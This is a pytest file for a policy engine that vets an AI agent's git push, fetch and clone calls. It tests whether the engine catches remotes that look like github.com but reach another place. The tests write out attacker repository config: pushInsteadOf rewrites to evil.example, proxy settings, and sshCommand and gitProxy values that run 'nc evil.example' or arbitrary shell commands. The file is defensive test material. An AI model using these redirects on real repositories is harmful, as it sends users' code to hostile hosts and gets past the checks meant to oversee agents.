"""Where git really sends, checked against git itself: a remote argument that the policy
judged as one place while git contacts another.

The agent makes allowed calls only (the policy allows everything on ``github.com``); the
repository's config is the attacker's (a repository the user cloned, or one the agent made
and wrote). Each attack is shown with real git: where the push or clone really lands."""

from __future__ import annotations

import socket
import subprocess
from pathlib import Path

import pytest

from policy import schema
from policy.decision import StructuralConfig
from policy.engine import PolicyEngine
from policy.gitremotes import resolve_git_remote
from policy.models import CompiledPolicyFile, ToolAnnotationsFile
from policy.urls import domain_matches_allowlist, extract_domain, extract_git_domain

ALLOWED = ["github.com"]
GOOD = "https://github.com/me/project.git"
UNTRUSTED = ("escalate", "structural-untrusted-domain")
IDENT = ("-c", "user.name=a", "-c", "user.email=a@b")


def _engine() -> PolicyEngine:
    tools = [
        {
            "toolName": name,
            "serverName": "git",
            "effect": "other",
            "sideEffects": True,
            "args": {"path": ["write-path"], "remote": ["git-remote-url"]},
        }
        for name in ("git_push", "git_fetch", "git_clone")
    ]
    annotations = schema.validate(ToolAnnotationsFile, {"servers": {"git": {"tools": tools}}})
    rules = [{"name": "allow-all", "if": {}, "then": "allow", "reason": "test"}]
    policy = schema.validate(CompiledPolicyFile, {"rules": rules})
    return PolicyEngine(policy, annotations, StructuralConfig(), {"git": ALLOWED})


def _decide(repo: Path, tool: str, remote: str) -> tuple[str, str]:
    result = _engine().decide("git", tool, {"path": str(repo), "remote": remote})[0]
    return result.decision, result.rule


def _git(repo: Path, *args: str) -> str:
    done = subprocess.run(["git", "-C", str(repo), *args], check=True, capture_output=True)
    return done.stdout.decode()


def _bare(path: Path) -> Path:
    subprocess.run(["git", "init", "-q", "--bare", str(path)], check=True)
    return path


@pytest.fixture
def work(tmp_path: Path) -> Path:
    repo = tmp_path / "w"
    subprocess.run(["git", "init", "-q", str(repo)], check=True)
    _git(repo, *IDENT, "commit", "-q", "--allow-empty", "-m", "x")
    return repo


def test_a_file_url_naming_an_allowed_host_is_a_local_path(work: Path, tmp_path: Path) -> None:
    """git ignores a ``file:`` URL's host: ``file://github.com/<path>`` pushes to a
    repository on this machine, which is no domain at all."""
    evil = _bare(tmp_path / "evil.git")
    remote = f"file://github.com{evil}"
    assert _decide(work, "git_push", remote) == UNTRUSTED
    assert _decide(work, "git_push", GOOD) == ("allow", "allow-all")  # control
    # Control: judged by its URL's host, as before, the push was allowed...
    assert domain_matches_allowlist(extract_domain(remote), ALLOWED)
    # ...and git really writes to the local path.
    _git(work, "push", "-q", remote, "HEAD:refs/heads/main")
    assert _git(evil, "for-each-ref") != ""


def test_a_bare_name_is_a_local_path_not_a_host(work: Path) -> None:
    """``github.com`` with no scheme is a directory next to the repository (or a symlink the
    agent made to anywhere): git pushes there."""
    assert _decide(work, "git_push", "github.com") == UNTRUSTED
    assert domain_matches_allowlist(extract_domain("github.com"), ALLOWED)  # control
    assert extract_git_domain("1helper::x") == ""  # a helper's name may start with a digit


def test_an_empty_push_instead_of_rewrites_every_push(work: Path) -> None:
    """``pushInsteadOf = ""`` is a prefix of every URL: git pushes a literal allowed URL to
    ``<base><url>``, on the base's host."""
    _git(work, "config", "url.https://evil.example/x?.pushInsteadOf", "")
    assert _decide(work, "git_push", GOOD) == UNTRUSTED
    assert _decide(work, "git_fetch", GOOD) == ("allow", "allow-all")  # control
    assert resolve_git_remote(GOOD, {"path": str(work)}, tool="git_push") == (
        "https://evil.example/x?" + GOOD,
    )


def _tied(work: Path, first: str, second: str, prefix: str) -> None:
    """Two bases with the same ``pushInsteadOf`` prefix, the entry of ``first`` written
    last but its section first: git picks ``first``."""
    config = work / ".git" / "config"
    with config.open("a") as out:
        out.write(f'[url "{first}"]\n\tpushInsteadOf = unrelated\n')
        out.write(f'[url "{second}"]\n\tpushInsteadOf = {prefix}\n')
        out.write(f'[url "{first}"]\n\tpushInsteadOf = {prefix}\n')


def test_equal_push_instead_of_prefixes_are_chosen_as_git_chooses(work: Path) -> None:
    _tied(work, "https://evil.example/", "https://github.com/", "mine:")
    assert _decide(work, "git_push", "mine:me/project.git") == UNTRUSTED
    assert _decide(work, "git_push", GOOD) == ("allow", "allow-all")  # control


def test_git_really_pushes_to_the_first_base_on_a_tie(work: Path, tmp_path: Path) -> None:
    """What the test above stands on: the push lands where the resolution says, not in the
    base whose entry came first."""
    evil, good = _bare(tmp_path / "evil.git"), _bare(tmp_path / "good.git")
    _tied(work, evil.as_uri(), good.as_uri(), "P")
    assert resolve_git_remote("P", {"path": str(work)}, tool="git_push") == (evil.as_uri(),)
    _git(work, "push", "-q", "P", "HEAD:refs/heads/main")
    assert _git(evil, "for-each-ref") != "" and _git(good, "for-each-ref") == ""


def test_a_clone_is_not_judged_by_the_repository_it_lands_in(work: Path) -> None:
    """A clone into an existing directory of a repository: ``git clone`` never reads that
    repository's rewrites, so they cannot make an evil URL look allowed."""
    _git(work, "config", "url.https://github.com/.insteadOf", "https://evil.example/")
    target = work / "sub"
    target.mkdir()
    assert _decide(target, "git_clone", "https://evil.example/loot.git") == UNTRUSTED
    assert _decide(target, "git_clone", GOOD) == ("allow", "allow-all")  # control
    # Control: the same URL fetched in the repository is rewritten there.
    assert _decide(work, "git_fetch", "https://evil.example/me/project.git") == (
        "allow",
        "allow-all",
    )


def test_git_really_clones_the_url_given(work: Path, tmp_path: Path) -> None:
    evil, good = _bare(tmp_path / "evil.git"), _bare(tmp_path / "good.git")
    _git(work, "push", "-q", str(evil), "HEAD:refs/heads/main")
    _git(work, "config", f"url.{good.as_uri()}.insteadOf", evil.as_uri())
    assert _git(work, "ls-remote", "--get-url", evil.as_uri()).strip() == good.as_uri()
    (work / "sub").mkdir()
    args = {"path": str(work / "sub")}
    assert resolve_git_remote(evil.as_uri(), args, tool="git_clone") == (evil.as_uri(),)
    _git(work / "sub", "clone", "-q", evil.as_uri(), "c")
    assert _git(work / "sub" / "c", "for-each-ref") != ""  # evil's branch: not good's


@pytest.mark.parametrize("value", [GOOD + "\0", GOOD + "\nx", "\t" + GOOD])
def test_a_value_git_output_cannot_carry_is_unknown(work: Path, value: str) -> None:
    for tool in ("git_push", "git_fetch"):
        assert resolve_git_remote(value, {"path": str(work)}, tool=tool) == ("",)


REDIRECTS = [
    ("http.proxy", "http://evil.example:3128"),
    ("http.https://github.com/.proxy", "http://evil.example:3128"),
    ("remote.origin.proxy", "http://evil.example:3128"),
    ("http.curloptResolve", "github.com:443:203.0.113.9"),
    ("core.sshCommand", "ssh -o ProxyCommand='nc evil.example 22'"),
    ("core.gitProxy", "sh -c 'nc evil.example 9418'"),
    ("remote.origin.vcs", "ext"),
]


@pytest.mark.parametrize(("key", "value"), REDIRECTS)
def test_config_that_sends_the_connection_elsewhere_is_unknown(
    work: Path, key: str, value: str
) -> None:
    """The URL is on an allowed host, but the repository's config has git connect through
    a proxy, to a pinned address, or through a program of its own: the call escalates."""
    _git(work, "remote", "add", "origin", GOOD)
    for tool in ("git_push", "git_fetch"):
        assert _decide(work, tool, "origin") == ("allow", "allow-all")  # control
    _git(work, "config", key, value)
    for tool in ("git_push", "git_fetch"):
        for remote in ("origin", GOOD):
            assert _decide(work, tool, remote) == UNTRUSTED


def test_the_users_own_proxy_is_not_the_repositorys(
    work: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Control: a proxy in the user's own config is the user's choice, not the agent's."""
    home = tmp_path / "home"
    home.mkdir()
    (home / ".gitconfig").write_text('[http]\n\tproxy = "http://proxy.corp:3128"\n')
    monkeypatch.setenv("HOME", str(home))
    assert _git(work, "config", "http.proxy").strip() == "http://proxy.corp:3128"
    assert _decide(work, "git_push", GOOD) == ("allow", "allow-all")


def test_git_really_connects_where_the_config_sends_it(work: Path, tmp_path: Path) -> None:
    """What the tests above stand on: a push to ``github.com`` reaches a listener the
    repository's ``http.proxy`` names, and ``core.sshCommand`` runs the program it names."""
    with socket.socket() as listener:
        listener.bind(("127.0.0.1", 0))
        listener.listen(1)
        listener.settimeout(30)
        port = listener.getsockname()[1]
        _git(work, "config", "http.proxy", f"http://127.0.0.1:{port}")
        push = subprocess.Popen(
            ["git", "-C", str(work), "push", "http://github.com/me/p.git", "HEAD"],
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )
        conn, _ = listener.accept()
        with conn:
            assert b"github.com/me/p.git" in conn.recv(200)
        push.wait(timeout=30)
    marker = tmp_path / "ran"
    _git(work, "config", "core.sshCommand", f"sh -c 'touch {marker}' --")
    subprocess.run(
        ["git", "-C", str(work), "push", "git@github.com:me/p.git", "HEAD"],
        check=False,
        capture_output=True,
    )
    assert marker.exists()


def test_a_relative_repository_is_not_judged_from_the_engine_s_directory(
    work: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A repository argument with no path role reaches the resolution as given: relative, it
    names a repository where the server works, not where the engine does."""
    _git(work, "remote", "add", "origin", GOOD)
    monkeypatch.chdir(tmp_path)
    args = {"path": work.name}
    assert resolve_git_remote("origin", {"path": str(work)}, tool="git_push") == (GOOD,)  # control
    assert resolve_git_remote("origin", args, tool="git_push") == ("",)
    assert resolve_git_remote(GOOD, args, tool="git_fetch") == ("",)
